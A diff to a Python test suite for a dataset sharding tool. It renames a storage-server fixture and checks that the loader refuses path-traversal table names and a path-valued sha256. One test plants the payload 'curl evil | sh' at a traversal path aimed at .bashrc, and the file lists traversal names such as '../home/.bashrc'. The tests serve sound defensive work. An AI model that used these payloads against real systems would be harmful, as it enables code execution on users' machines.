@@ -19,9 +19,9 @@ from must.format.offsets import load_offsets
 from must.shards.history import History
 from must.shards.tarwriter import npy
 from tests import zoo
-from tests.gcs import Server
 from tests.shards.test_shard import run
 from tests.shards.test_shard_gcs import upload
+from tests.stores import Server, plant
 
 NAMES = ["/{home}/.bashrc", "../home/.bashrc", "a/../../home/.bashrc", "train-000000.tar/../../x", "", "x\0.npy", 7]
 
@@ -93,31 +93,31 @@ def test_what_is_no_index_at_all_is_refused_in_one_line(data: bytes) -> None:
 
 @pytest.mark.parametrize("name", ["{home}/.bashrc", "../home/.bashrc"])
 def test_a_table_of_a_bucket_cannot_be_written_elsewhere(
-    gcs_server: Server, made: Path, tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch
+    bucket_server: Server, made: Path, tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """Through `must shard --append` from end to end: the name was joined to a local folder, and the object exists."""
     home = tmp_path / "home"
     home.mkdir()
     monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
-    upload(made, gcs_server.uri)
+    upload(made, bucket_server.uri)
     evil = name.format(home=home)
-    storage.write_bytes(gcs_server.uri + "/" + evil, b"curl evil | sh\n")
-    data = edited(gcs_server.uri, lambda c: c.update(tables=[{"name": evil, "sha256": "0" * 64}]))
-    storage.write_bytes(gcs_server.uri + "/index.json", data)
+    plant(bucket_server.uri + "/" + evil, b"curl evil | sh\n")
+    data = edited(bucket_server.uri, lambda c: c.update(tables=[{"name": evil, "sha256": "0" * 64}]))
+    storage.write_bytes(bucket_server.uri + "/index.json", data)
     zoo.fill(tmp_path / "new", 3, start=100)
     with pytest.raises(ValueError, match="no name of a table"):
-        run(tmp_path / "new", gcs_server.uri, append=True)
+        run(tmp_path / "new", bucket_server.uri, append=True)
     assert not any(home.iterdir()) and not list(tmp_path.glob("**/.bashrc"))
 
 
-def test_a_sha256_that_is_a_path_deletes_nothing(gcs_server: Server, made: Path, tmp_path: Path) -> None:
+def test_a_sha256_that_is_a_path_deletes_nothing(bucket_server: Server, made: Path, tmp_path: Path) -> None:
     (tmp_path / "photos.tar").write_bytes(b"mine")
     (tmp_path / "photos.part").write_bytes(b"mine too")
-    upload(made, gcs_server.uri)
-    data = edited(gcs_server.uri, first(sha256=str(tmp_path / "photos")))
-    storage.write_bytes(gcs_server.uri + "/index.json", data)
+    upload(made, bucket_server.uri)
+    data = edited(bucket_server.uri, first(sha256=str(tmp_path / "photos")))
+    storage.write_bytes(bucket_server.uri + "/index.json", data)
     with pytest.raises(ValueError, match="is no sha256"):
-        open_reader(gcs_server.uri, "train", str(tmp_path / "cache"), 1.0, 1).image(0)
+        open_reader(bucket_server.uri, "train", str(tmp_path / "cache"), 1.0).image(0)
     assert (tmp_path / "photos.tar").read_bytes() == b"mine"
     assert (tmp_path / "photos.part").read_bytes() == b"mine too"
 
@@ -191,7 +191,7 @@ def test_offsets_that_point_out_of_the_shard_are_refused(made: Path, tmp_path: P
     (tmp_path / "out" / "train-000000.npy").write_bytes(npy(table))
     data = edited(made, first(offsets_sha256=hashlib.sha256(npy(table)).hexdigest()))
     (tmp_path / "out" / "index.json").write_bytes(data)
-    with pytest.raises(ValueError, match="points behind the end of train-000000"):
+    with pytest.raises(ValueError, match="points past the end of train-000000"):
         load_offsets(str(tmp_path / "out"), load_index(str(tmp_path / "out")).shards[0])
 
 
